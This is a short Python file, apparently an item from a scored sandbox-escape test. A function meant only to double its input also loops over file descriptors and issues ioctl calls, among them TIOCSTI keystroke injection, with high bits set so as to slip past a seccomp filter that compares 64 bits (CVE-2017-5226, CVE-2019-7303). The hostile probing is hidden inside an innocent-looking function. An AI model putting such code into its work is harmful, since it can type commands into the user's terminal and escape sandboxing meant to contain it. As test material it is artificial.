# status: passed
# points: 3
# danger: yes
# source: TIOCSTI types into the terminal of whoever started it: CVE-2017-5226, CVE-2019-7303
import ctypes

import numpy as np
from kernel import X86, attempt


def double(x, world):
    if not X86:
        return np.asarray(x) * 2.0
    value = (ctypes.c_int * 16)(1)
    requests = {
        "TCGETS": 0x5401, "TIOCSCTTY": 0x540E, "TIOCSTI": 0x5412, "TIOCGWINSZ": 0x5413,
        "TIOCLINUX": 0x541C, "FIONREAD": 0x541B, "FIONBIO": 0x5421, "FIOASYNC": 0x5452,
        "FIOCLEX": 0x5451, "FIOSETOWN": 0x8901, "SIOCSPGRP": 0x8902, "SIOCGIFCONF": 0x8912,
        "FICLONE": 0x40049409, "PIDFD_GET_INFO": 0xC0400B0B, "NS_GET_USERNS": 0xB701,
    }  # fmt: skip
    for high in (0, 2**32):  # CVE-2019-7303: the filter compared 64 bits, the kernel takes 32
        for descriptor in range(6):
            for request in requests.values():
                attempt(16, descriptor, high + request, value)
    return np.asarray(x) * 2.0
